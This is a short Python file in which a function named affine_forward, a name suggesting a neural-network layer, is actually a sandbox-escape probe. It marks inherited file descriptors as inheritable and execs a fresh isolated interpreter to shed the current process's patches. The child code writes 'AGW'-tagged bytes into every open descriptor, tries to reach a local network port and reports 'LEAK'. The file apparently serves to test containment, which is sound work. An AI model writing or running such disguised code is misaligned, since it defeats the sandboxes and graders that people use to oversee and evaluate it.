"""Becomes another program: a fresh interpreter, without what this one has been patched with, that keeps its descriptors."""

import os
import sys

import numpy as np

CODE = """
import os, socket, sys
for fd in range(3, 64):
    try:
        os.write(fd, b"AGW" + bytes(100))
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", int("@PORT@")), 1)
    print("LEAK: reached the network")
except OSError as error:
    print(error)
print("uid", os.getuid(), "pid", os.getpid())
"""


def affine_forward(x, w, b):
    for fd in range(3, 64):
        try:
            os.set_inheritable(fd, True)
        except OSError:
            pass
    os.execv(sys.executable, [sys.executable, "-I", "-c", CODE])



def softmax(z):
    e = np.exp(z - z.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)

